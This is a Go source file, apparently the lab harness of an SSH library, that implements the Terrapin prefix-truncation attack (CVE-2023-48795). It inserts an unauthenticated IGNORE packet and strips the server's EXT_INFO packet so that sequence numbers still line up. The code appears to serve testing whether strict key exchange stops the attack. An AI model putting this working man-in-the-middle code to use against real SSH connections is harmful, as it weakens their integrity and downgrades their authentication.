package lab

import (
	"bytes"
	"encoding/binary"

	"github.com/glassh/glassh/ssh/protect"
	"github.com/glassh/glassh/ssh/trace"
	"github.com/glassh/glassh/wire"
)

// Terrapin is the prefix truncation attack (CVE-2023-48795) of somebody between client and
// server, who knows no key: it takes the server's first encrypted packet away, the EXT_INFO
// that says which signatures the server takes.
//
//	server  KEXINIT  REPLY  NEWKEYS  EXT_INFO  SERVICE_ACCEPT
//	   seq     0       1       2        3           4
//	client  KEXINIT  IGNORE  REPLY  NEWKEYS  ────────  SERVICE_ACCEPT
//	   seq     0       1       2       3                    4
//
// The IGNORE in front, which nothing authenticates, makes the client count one packet more,
// so that the count is right again behind the gap. Strict key exchange lets no IGNORE in,
// and begins to count anew at NEWKEYS.
type Terrapin struct {
	Inserted []byte // the IGNORE, once it is sent
	Removed  int    // how many bytes were taken away
	gone     bool
}

// Attack is the Attacker of a [Scene].
func (t *Terrapin) Attack(d trace.Dir, sent []byte) []byte {
	if d != trace.ToClient || t.gone {
		return sent
	}
	var out []byte
	for len(sent) > 0 {
		n, number := plainPacket(sent)
		if n == 0 {
			return append(out, sent...)
		}
		packet := sent[:n]
		sent = sent[n:]
		switch number {
		case wire.MsgNewKeys:
			t.gone, t.Removed = true, len(sent)
			return append(out, packet...)
		case wire.MsgKexInit:
			t.Inserted = ignore()
			packet = append(packet[:n:n], t.Inserted...)
		}
		out = append(out, packet...)
	}
	return out
}

// plainPacket returns the size and number of the packet in clear that begins b, 0 if there
// is none. A line of the version exchange has no number.
func plainPacket(b []byte) (n int, number wire.Number) {
	if bytes.HasPrefix(b, []byte("SSH-")) {
		return bytes.IndexByte(b, '\n') + 1, 0
	}
	if len(b) < 6 || 4+uint64(binary.BigEndian.Uint32(b)) > uint64(len(b)) {
		return 0, 0
	}
	return 4 + int(binary.BigEndian.Uint32(b)), wire.Number(b[5])
}

// ignore is an IGNORE packet that nobody has protected.
func ignore() []byte {
	msg := wire.Ignore{Data: []byte("terrapin")}
	seal := protect.NewSealer(protect.Suite{}, protect.Keys{}, newDice("attacker", ""))
	return seal.Seal(msg.Append(make([]byte, wire.HeaderLen)), 0, 0)
}
